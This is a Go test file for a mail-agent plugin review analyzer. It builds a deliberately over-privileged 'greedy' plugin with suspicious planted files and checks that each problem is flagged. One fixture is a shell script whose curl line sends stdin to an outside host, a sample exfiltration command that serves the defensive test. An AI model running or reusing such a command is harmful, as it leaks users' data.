package review

import (
	"io/fs"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/mairust/mairust/agent/plugins/manifest"
	"github.com/mairust/mairust/internal/proctest"
)

const greedy = `id = "greedy"
name = "Greedy"
version = "1.2.3"
kind = "process"
hooks = ["post_receive"]
command = "bin/plugin"
network = "unlimited"

[permissions]
read_headers = true
read_body = "full"
move_message = true
write_metadata = true
`

// TestAnalyze: each planted problem is flagged, and only those.
func TestAnalyze(t *testing.T) {
	m, err := manifest.Parse("plugin.toml", []byte(greedy))
	if err != nil {
		t.Fatal(err)
	}
	bin, err := os.ReadFile(proctest.Binary(t)) // a Go binary with its modules' build info
	if err != nil {
		t.Fatal(err)
	}
	files := []File{
		{"plugin.toml", 0o644, []byte(greedy)},
		{"README.md", 0o644, []byte("# Greedy\n")},
		{"bin/plugin", 0o755, bin},
		{"bin/helper.sh", 0o755, []byte("#!/usr/bin/env bash\ncurl -d @- https://example.com\n")},
		{".cache/token", 0o644, []byte("x")},
		{"bin/su", fs.ModeSetuid | 0o755, []byte("\x7fELF...")},
	}
	vulns, err := LoadVulns(strings.NewReader(`[
		{"id": "TEST-1", "summary": "a flaw in go-toml", "affected": [{"package": {"name": "github.com/pelletier/go-toml/v2", "ecosystem": "Go"},
			"ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "99.0.0"}]}]}]},
		{"id": "TEST-2", "summary": "a flaw in Go", "affected": [{"package": {"name": "stdlib", "ecosystem": "Go"},
			"ranges": [{"type": "SEMVER", "events": [{"introduced": "1.0.0"}, {"fixed": "99.0.0"}]}]}]},
		{"id": "PYSEC-1", "affected": [{"package": {"name": "requests", "ecosystem": "PyPI"}}]}]`))
	if err != nil {
		t.Fatal(err)
	}
	r := Analyze(m, files, vulns)
	var got []string
	for _, f := range r.Findings {
		got = append(got, f.Code+" "+f.Path)
	}
	slices.Sort(got)
	want := []string{
		"file.hidden .cache/token",
		"file.setuid bin/su",
		"file.shell_script bin/helper.sh",
		"file.unexpected_executable bin/helper.sh",
		"file.unexpected_executable bin/su",
		"module.vulnerable bin/plugin",
		"module.vulnerable bin/plugin",
		"permissions.exfiltration ",
		"permissions.network ",
		"permissions.read_and_send ",
	}
	if !slices.Equal(got, want) {
		t.Fatalf("findings\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if r.Worst() != High || r.PluginID != "greedy" || r.Version != "1.2.3" {
		t.Errorf("report %s %s worst %s", r.PluginID, r.Version, r.Worst())
	}
	if !slices.ContainsFunc(r.Modules, func(m Module) bool { return m.Path == "stdlib" && m.Binary == "bin/plugin" }) {
		t.Errorf("modules %v without Go itself", r.Modules)
	}
	for _, f := range r.Findings {
		if f.Code == "module.vulnerable" && !strings.Contains(f.Message, "fixed in 99.0.0") {
			t.Errorf("vulnerability finding %q does not say what fixes it", f.Message)
		}
	}

	// The built-in list knows this build's modules as fixed.
	for _, f := range Analyze(m, files, DefaultVulns()).Findings {
		if f.Code == "module.vulnerable" {
			t.Errorf("the built-in list flags this build: %s", f.Message)
		}
	}
	// A plugin that asks for what it uses: nothing to say.
	ok, err := manifest.Parse("plugin.toml", []byte(strings.NewReplacer(`network = "unlimited"`, `network = "none"`, "move_message = true\n", "").Replace(greedy)))
	if err != nil {
		t.Fatal(err)
	}
	if r := Analyze(ok, files[:3], vulns.without()); len(r.Findings) != 0 || r.Worst() != "" {
		t.Errorf("a plain plugin has findings %+v", r.Findings)
	}
}

// without returns an empty list (for the plain plugin above).
func (v *Vulns) without() *Vulns { return &Vulns{byModule: map[string][]*Advisory{}} }

// TestAffecting checks the OSV ranges of the built-in list.
func TestAffecting(t *testing.T) {
	v := DefaultVulns()
	for _, c := range []struct {
		module, version string
		ids             []string
	}{
		{"golang.org/x/net", "v0.16.0", []string{"GO-2023-2102", "GO-2024-2687"}},
		{"golang.org/x/net", "v0.17.0", []string{"GO-2024-2687"}},
		{"golang.org/x/net", "v0.23.0", nil},
		{"golang.org/x/net", "v0.0.0-20230101000000-abcdefabcdef", []string{"GO-2023-2102", "GO-2024-2687"}},
		{"stdlib", "1.20.9", []string{"GO-2023-2102", "GO-2024-2687"}},
		{"stdlib", "1.21.2", []string{"GO-2023-2102", "GO-2024-2687"}},
		{"stdlib", "1.21.3", []string{"GO-2024-2687"}},
		{"stdlib", "1.22.1", []string{"GO-2024-2687"}},
		{"stdlib", "1.22.2", nil},
		{"stdlib", "1.23rc1", nil},
		{"golang.org/x/crypto", "v0.16.0", []string{"GO-2023-2402"}},
		{"golang.org/x/crypto", "not a version", nil},
	} {
		found, _ := v.Affecting(c.module, c.version)
		var ids []string
		for _, a := range found {
			ids = append(ids, a.ID)
		}
		if !slices.Equal(ids, c.ids) {
			t.Errorf("%s %s: %v, want %v", c.module, c.version, ids, c.ids)
		}
	}
}

func TestMain(m *testing.M) {
	code := m.Run()
	proctest.RemoveBinary()
	os.Exit(code)
}
